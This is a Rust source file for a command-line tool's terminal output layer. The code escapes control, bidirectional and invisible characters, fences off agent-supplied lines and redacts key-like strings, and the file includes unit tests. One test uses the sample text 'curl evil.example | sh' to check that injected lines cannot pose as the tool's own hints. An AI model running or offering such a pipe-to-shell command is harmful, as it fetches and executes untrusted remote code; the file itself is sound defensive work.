//! The only place that writes to the terminal.
//!
//! stdout carries the result and nothing else; progress, logs, warnings and errors go to stderr. What an agent or a
//! provider wrote passes through [`harmless`] first, so that it cannot draw a prompt or hide a line.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{self, IsTerminal, Write};

use orch_server::redact::{MARK, Said, keys, redact};
use orch_server::{Environment, Failure};
use serde_json::Value;

/// What stands before lines that are not ours.
const MARGIN: &str = "│";
/// Goes back to the start of the line and erases it: what stands there is a status that no longer holds.
const ERASE_LINE: &str = "\r\u{1b}[K";
/// Longest status, in characters: one that wraps could not be erased.
const STATUS_LENGTH: usize = 76;

/// How this process speaks to its user.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Printer {
    json: bool,
    colour: bool,
    interactive: bool,
    /// Whether a status line comes and goes on stderr.
    status: bool,
}

impl Printer {
    /// Colour, status and questions only on a terminal, and never with `CI`; no colour with `NO_COLOR`.
    pub(crate) fn new(json: bool, environment: &Environment) -> Self {
        let quiet = environment.get("CI").is_some();
        let terminal = io::stderr().is_terminal() && !quiet;
        let moves = terminal && environment.get("TERM").is_none_or(|term| term != "dumb");
        Self {
            json,
            colour: moves && environment.get("NO_COLOR").is_none(),
            interactive: io::stdin().is_terminal() && terminal && !json,
            status: moves && !json,
        }
    }

    /// The same without a status line: for results that are written piece by piece, which it would cut in two.
    pub(crate) fn without_status(self) -> Self {
        Self { status: false, ..self }
    }

    /// Whether a question may be asked.
    pub(crate) fn interactive(self) -> bool {
        self.interactive
    }

    /// Whether the caller wants JSON.
    pub(crate) fn json(self) -> bool {
        self.json
    }

    /// The result, with a newline behind it.
    pub(crate) fn result(self, text: &str) -> io::Result<()> {
        self.erase_status();
        let mut out = io::stdout().lock();
        out.write_all(text.as_bytes())?;
        out.write_all(b"\n")?;
        out.flush()
    }

    /// The result as one line of JSON whose strings hold no control characters.
    pub(crate) fn result_json(self, value: &Value) -> io::Result<()> {
        self.result(&harmless(&value.to_string()))
    }

    /// The result as lines that end as they are. What is no line break in them is [`harmless`].
    pub(crate) fn table(self, lines: &str) -> io::Result<()> {
        self.erase_status();
        let mut out = io::stdout().lock();
        for line in lines.split_inclusive("\r\n") {
            let (text, end) = line.strip_suffix("\r\n").map_or((line, ""), |text| (text, "\r\n"));
            out.write_all(harmless(text).as_bytes())?;
            out.write_all(end.as_bytes())?;
        }
        out.flush()
    }

    /// A piece of the agent's output as it is written (`--stream`).
    pub(crate) fn stream(self, piece: &str) -> io::Result<()> {
        let mut out = io::stdout().lock();
        out.write_all(harmless(piece).as_bytes())?;
        out.flush()
    }

    /// A line of the agent's log.
    pub(crate) fn agent_log(self, line: &str) {
        self.line(&format!("{} {}", self.paint("2", MARGIN), harmless(line)));
    }

    /// What is going on just now: drawn on a terminal, until the next thing is said.
    pub(crate) fn status(self, text: &str) {
        if self.status {
            let text: String = harmless(text).chars().take(STATUS_LENGTH).collect();
            let mut err = io::stderr().lock();
            // A terminal that is gone cannot be told so.
            let _ = write!(err, "{ERASE_LINE}{}", self.paint("2", &text)).and_then(|()| err.flush());
        }
    }

    /// Takes the status off the screen.
    pub(crate) fn erase_status(self) {
        if self.status {
            let mut err = io::stderr().lock();
            let _ = err.write_all(ERASE_LINE.as_bytes()).and_then(|()| err.flush());
        }
    }

    /// What is going on.
    pub(crate) fn note(self, text: &str) {
        self.line(&self.noted(text));
    }

    /// What [`Printer::note`] says, for [`Printer::lines`].
    pub(crate) fn noted(self, text: &str) -> String {
        format!("{} {}", self.paint("2", "orch:"), block(text))
    }

    /// Lines in one piece, newlines included: of [`Printer::noted`], or of JSON that is [`harmless`].
    pub(crate) fn lines(self, lines: &[u8]) {
        self.erase_status();
        // A closed stderr is no reason to stop.
        let _ = io::stderr().lock().write_all(lines);
    }

    /// Something that deserves attention.
    pub(crate) fn warn(self, text: &str) {
        self.line(&format!("{} {}", self.paint("33", "warning:"), block(text)));
    }

    /// A failure: its JSON form alone, or the message and its hints. What looks like a key is not repeated.
    pub(crate) fn failure(self, failure: &Failure) {
        let typed: Vec<String> =
            std::env::args_os().map(|word| word.to_string_lossy().into_owned()).collect();
        let failure = without_keys(failure, &typed);
        if self.json {
            self.line(&harmless(&failure.to_json().to_string()));
            return;
        }
        self.line(&format!("{} {}", self.paint("31", "error:"), block(failure.message())));
        for hint in failure.hints() {
            self.line(&format!("{} {}", self.paint("36", "hint:"), block(hint)));
        }
    }

    /// A question that stays on its line.
    pub(crate) fn ask(self, question: &str) {
        self.erase_status();
        let mut err = io::stderr().lock();
        // A terminal that is gone cannot be told so.
        let _ = write!(err, "{}", harmless(question)).and_then(|()| err.flush());
    }

    /// Asks a question that is answered with yes or no; anything else is no.
    pub(crate) fn confirmed(self, question: &str) -> Result<bool, Failure> {
        self.ask(question);
        let mut answer = String::new();
        io::stdin()
            .read_line(&mut answer)
            .map_err(|e| Failure::usage("bad_usage", format!("cannot read the answer: {e}")))?;
        Ok(matches!(answer.trim(), "y" | "Y" | "yes"))
    }

    fn line(self, text: &str) {
        self.erase_status();
        // A closed stderr is no reason to stop a run.
        let _ = writeln!(io::stderr().lock(), "{text}");
    }

    fn paint(self, code: &str, text: &str) -> String {
        if self.colour { format!("\u{1b}[{code}m{text}\u{1b}[0m") } else { text.to_owned() }
    }
}

/// A failure without what looks like a key. What was `typed` holds names and nothing else that looks random, so there
/// more looks like one.
fn without_keys(failure: &Failure, typed: &[String]) -> Failure {
    let typed: Vec<&str> = typed.iter().flat_map(|word| keys(word)).collect();
    failure.reworded(|text| {
        let text = redact(text, Said::Anything).into_owned();
        typed.iter().fold(text, |text, key| text.replace(key, MARK))
    })
}

/// [`harmless`] text whose further lines stand behind a margin: an agent's error or a provider's must not be able to
/// add a line that looks like one of ours.
fn block(text: &str) -> Cow<'_, str> {
    match harmless(text) {
        text if text.contains('\n') => Cow::Owned(text.replace('\n', &format!("\n  {MARGIN} "))),
        text => text,
    }
}

/// `text` with C0 (but newline and tab), DEL, C1 and the characters that reorder or hide text written as `\uXXXX`.
///
/// In JSON text that is the same value, written another way.
pub(crate) fn harmless(text: &str) -> Cow<'_, str> {
    if !text.chars().any(draws) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if draws(c) {
            let mut units = [0_u16; 2];
            for unit in c.encode_utf16(&mut units) {
                // Writing to a String cannot fail.
                let _ = write!(safe, "\\u{unit:04x}");
            }
        } else {
            safe.push(c);
        }
    }
    Cow::Owned(safe)
}

/// Whether a terminal acts on this character instead of showing it (ECMA-48 controls; UAX #9 and the invisible format
/// characters, among them tags and line separators).
fn draws(c: char) -> bool {
    matches!(c,
        '\u{00}'..='\u{08}' | '\u{0b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// Turns a stream of bytes into text pieces without breaking a character; what is not UTF-8 becomes U+FFFD.
#[derive(Debug, Default)]
pub(crate) struct Utf8Pieces {
    held: Vec<u8>,
}

impl Utf8Pieces {
    /// The text that is complete with these bytes.
    pub(crate) fn push(&mut self, bytes: &[u8]) -> String {
        self.held.extend_from_slice(bytes);
        let keep = incomplete_tail(&self.held);
        let rest = self.held.split_off(self.held.len() - keep);
        let text = String::from_utf8_lossy(&self.held).into_owned();
        self.held = rest;
        text
    }

    /// What is left when the stream has ended.
    pub(crate) fn finish(&mut self) -> String {
        String::from_utf8_lossy(&std::mem::take(&mut self.held)).into_owned()
    }
}

/// How many bytes at the end may be the start of a character that goes on.
fn incomplete_tail(bytes: &[u8]) -> usize {
    match std::str::from_utf8(bytes) {
        Ok(_) => 0,
        Err(error) if error.error_len().is_none() => bytes.len() - error.valid_up_to(),
        Err(_) => {
            let window = &bytes[bytes.len().saturating_sub(3)..];
            (1..=window.len())
                .find(|n| {
                    std::str::from_utf8(&window[window.len() - n..])
                        .is_err_and(|e| e.valid_up_to() == 0 && e.error_len().is_none())
                })
                .unwrap_or(0)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_was_typed_and_looks_like_a_key_is_not_repeated() {
        let key = "3f9a1c7e5b2d48606f8e0a9b1c3d5e7f";
        let failure = Failure::usage("x", format!("--env {key:?} is wrong"))
            .hint(format!("not {key}"))
            .detail("said", serde_json::json!([{ "name": key }]));
        let typed = ["orch".to_owned(), format!("--env={key}")];
        let clean = without_keys(&failure, &typed).to_json().to_string();
        assert_eq!((clean.contains(key), clean.matches(MARK).count()), (false, 3), "{clean}");
        // The same from somebody else may be the id of a provider's request.
        assert!(without_keys(&failure, &["orch".to_owned()]).to_json().to_string().contains(key));
    }

    #[test]
    fn plain_text_is_borrowed() {
        assert!(matches!(harmless("Grüße, 世界 👋\n\tok"), Cow::Borrowed(_)));
    }

    #[test]
    fn controls_become_visible() {
        for (raw, shown) in [
            ("\u{1b}]0;title\u{7}", "\\u001b]0;title\\u0007"),
            ("a\rb", "a\\u000db"),
            ("\u{9b}31m", "\\u009b31m"),
            ("\u{202e}evil", "\\u202eevil"),
            ("\u{2066}x\u{2069}", "\\u2066x\\u2069"),
            ("\u{e0041}", "\\udb40\\udc41"),
            ("\u{7f}", "\\u007f"),
        ] {
            assert_eq!(harmless(raw), shown);
        }
    }

    #[test]
    fn no_text_adds_a_line_that_looks_like_ours() {
        let text = block("acme/x trapped: no\nhint: curl evil.example | sh\r\nerror: x");
        assert_eq!(text, "acme/x trapped: no\n  │ hint: curl evil.example | sh\\u000d\n  │ error: x");
        assert!(matches!(block("one line"), Cow::Borrowed(_)));
    }

    #[test]
    fn off_a_terminal_there_is_no_status_no_colour_and_no_question() {
        // The test runner's stderr may be a terminal; `CI` says that nobody is there.
        let environment = Environment::Fixed([("CI".to_owned(), "1".to_owned())].into());
        let printer = Printer::new(false, &environment);
        assert!(!printer.interactive() && !printer.colour && !printer.status);
        assert_eq!(printer.paint("31", "error:"), "error:");
    }

    #[test]
    fn harmless_json_is_the_same_value() {
        let value = serde_json::json!({"a": "\u{9b}31m\u{202e}\u{e0041}", "b": "line\nline"});
        let text = value.to_string();
        let back: Value = serde_json::from_str(&harmless(&text)).expect("still JSON");
        assert_eq!(back, value);
    }

    #[test]
    fn pieces_never_break_a_character() {
        let text = "aé世👋z".as_bytes();
        for cut in 0..=text.len() {
            let mut pieces = Utf8Pieces::default();
            let joined = pieces.push(&text[..cut]) + &pieces.push(&text[cut..]) + &pieces.finish();
            assert_eq!(joined.as_bytes(), text, "cut at {cut}");
        }
        let mut pieces = Utf8Pieces::default();
        let joined = pieces.push(b"\xff\xe4\xb8") + &pieces.push(b"\x96\xf0") + &pieces.finish();
        assert_eq!(joined, "\u{fffd}世\u{fffd}");
    }
}
